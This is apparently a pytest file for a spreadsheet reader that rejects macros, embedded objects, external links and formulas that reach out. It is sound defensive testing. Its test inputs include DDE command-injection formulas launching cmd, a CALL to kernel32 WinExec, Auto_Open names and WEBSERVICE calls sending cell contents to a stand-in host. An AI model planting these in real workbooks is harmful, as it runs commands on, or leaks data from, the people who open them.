"""Active content is refused by name, wherever in the file it shows."""

from __future__ import annotations

import pytest

from read.files import MAIN, OVERRIDES, SHEET_TYPE, guarded, parts, read, relations, rows, sheet, types, workbook
from workbook.read.formulas import reaches_out

RELS = "xl/_rels/workbook.xml.rels"
SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
MS = "http://schemas.microsoft.com/office/2006/relationships"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)


def linked(part: str, kind: str, content: str | bytes = "<a/>", link: str = "x") -> dict[str, bytes]:
    """A workbook with one part more, of a content type, to which its sheet points."""
    return parts(overrides={part: kind}, **{part: content, SHEET_RELS: relations(("a", link, f"/{part}"))})


def named(definition: str) -> dict[str, bytes]:
    return parts(**{"xl/workbook.xml": workbook(names=f"<definedNames>{definition}</definedNames>")})


BAD: dict[str, list[dict[str, bytes]]] = {
    "R501": [
        linked("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", CFB, f"{MS}/vbaProject"),
        linked("xl/a.bin", "application/vnd.ms-office.vbaProject", b"x"),
        linked("xl/vbaProject.bin", "image/png", b"x"),
        parts(
            **{
                "[Content_Types].xml": types(
                    OVERRIDES | {"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}
                )
            }
        ),
        linked("xl/drawings/drawing1.xml", "application/xml", '<a><b macro="[0]!go"/></a>'),
    ],
    "R502": [
        linked("xl/externalLinks/externalLink1.xml", f"{SHEET_TYPE}.externalLink+xml"),
        parts(**{RELS: relations(("rId1", "worksheet", "worksheets/sheet1.xml"), ("b", "externalLink", "styles.xml"))}),
    ],
    "R503": [
        linked("xl/connections.xml", f"{SHEET_TYPE}.connections+xml"),
        linked("xl/queryTables/queryTable1.xml", f"{SHEET_TYPE}.queryTable+xml"),
        linked("xl/model/item.data", "application/vnd.openxmlformats-officedocument.model+data", b"x"),
        linked(
            "customXml/item1.xml", "application/xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup"/>'
        ),
    ],
    "R504": [
        linked("xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", CFB),
        linked("xl/media/image1.png", "image/png", CFB),
        linked("xl/media/image1.png", "image/png", b"PK\x03\x04"),
        linked("xl/a.xlsx", "application/x", b"x", "package"),
        parts(sheet("<sheetData/><oleObjects><oleObject/></oleObjects>")),
    ],
    "R505": [
        linked("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", link="control"),
        linked("xl/activeX/activeX1.bin", "application/vnd.ms-office.activeX", b"x"),
    ],
    "R506": [
        linked("xl/volatileDependencies.xml", f"{SHEET_TYPE}.volatileDependencies+xml"),
        linked("xl/a.xml", "application/xml", f'<x xmlns="{MAIN}"><ddeLink/></x>'),
    ],
    "R507": [
        linked("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
        linked("xl/dialogsheets/sheet1.xml", f"{SHEET_TYPE}.dialogsheet+xml"),
        linked("xl/a.xml", "application/xml", link=f"{MS}/xlMacrosheet"),
        named('<definedName name="a" xlm="1">1</definedName>'),
        named('<definedName name="a" function="1" vbProcedure="1">1</definedName>'),
    ],
    "R508": [
        named('<definedName name="Auto_Open" hidden="1">表!$A$1</definedName>'),
        named('<definedName name="_xlnm.Auto_Close">表!$A$1</definedName>'),
        named('<definedName name="AUTO_OPEN_2" localSheetId="0">表!$A$1</definedName>'),
    ],
    "R510": [
        parts(**{SHEET_RELS: relations(("a", "image", "http://example.org/a.png", "External"))}),
        parts(**{RELS: relations(("a", "attachedTemplate", "file:///c:/a.xltx", "External"))}),
    ],
    "R511": [
        linked("customUI/customUI.xml", "application/xml"),
        linked("xl/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml"),
    ],
}


@pytest.mark.parametrize(("code", "made"), [(code, made) for code, many in BAD.items() for made in many])
def test_active_content_is_refused_by_name(code: str, made: dict[str, bytes]) -> None:
    package, codes, _ = guarded(made)
    assert package is None and codes == [code]


def test_all_kinds_of_one_file_are_named_at_once() -> None:
    made = BAD["R501"][0] | BAD["R503"][0] | BAD["R508"][0]
    made["[Content_Types].xml"] = types(
        OVERRIDES
        | {
            "xl/vbaProject.bin": "application/vnd.ms-office.vbaProject",
            "xl/connections.xml": f"{SHEET_TYPE}.connections+xml",
        }
    ).encode()
    package, codes, _ = guarded(made)
    assert package is None and codes == ["R501", "R503", "R508"]


def test_hyperlinks_and_form_controls_may_stay() -> None:
    content = sheet(
        '<sheetData/><hyperlinks><hyperlink ref="A1" r:id="a"/></hyperlinks><controls><control shapeId="1"/></controls>'
    )
    made = parts(content, **{SHEET_RELS: relations(("a", "hyperlink", "https://example.org/", "External"))})
    book, codes, _ = read(made)
    assert book is not None and codes == []
    assert book.sheets[0].links[0].target == "https://example.org/"


REACHING = {
    'WEBSERVICE("http://example.org/"&A1)': "R509",
    'IF(1,_xlfn.WebService ("http://example.org"),0)': "R509",
    'RTD("a",,"b")': "R509",
    'CALL("kernel32","WinExec","JC",A1)': "R509",
    'REGISTER.ID("a","b")': "R509",
    "_xlfn._xlws.PY(0,1)": "R509",
    "cmd|'/c calc'!A0": "R506",
    "=cmd|' /C calc'!'A0'": "R506",
    "[1]表!A1": "R502",
    "SUM([1]表!A1:A3)": "R502",
    "1+'[1]表 一'!A1": "R502",
    "'C:\\a\\[b.xlsx]表'!A1": "R502",
    "[1]!名称": "R502",
    '"a"&\'x[1]\'!A1&"b"': "R502",
}
STAYING = (
    '"WEBSERVICE("&A1',
    "SUM(表!A1:B2)",
    "'a|b'!A1",
    '"a|b"',
    "表1[[#This Row],[金额]]",
    "SUM(表1[金额])",
    "[0]!名称",
    "RECALL(1)",
    'HYPERLINK("#\'表\'!A1","[1]表!A1")',
    '表1[金额]&"!"',
    'TEXT(A1,"[>=10]0;0")',
)


@pytest.mark.parametrize("formula", list(REACHING))
def test_formulas_that_reach_out_are_refused(formula: str) -> None:
    found = reaches_out(formula)
    assert found is not None and found[0] == REACHING[formula]
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;")
    book, codes, findings = read(parts(rows(f'<c r="B1"><f>{escaped}</f></c>')))
    assert book is None and codes == [REACHING[formula]]
    assert findings[0].place.cell == "B1"
    book, codes, _ = read(named(f'<definedName name="a">{escaped}</definedName>'))
    assert book is None and codes == [REACHING[formula]]
    rule = f"<dataValidation><formula1>{escaped}</formula1></dataValidation>"
    assert read(parts(f"<sheetData/><dataValidations>{rule}</dataValidations>"))[1] == [REACHING[formula]]


@pytest.mark.parametrize("formula", STAYING)
def test_formulas_that_only_look_so_stay(formula: str) -> None:
    assert reaches_out(formula) is None


def test_character_references_hide_nothing() -> None:
    assert read(parts(rows('<c r="A1"><f>&#87;EBSERVICE("a")</f></c>')))[1] == ["R509"]
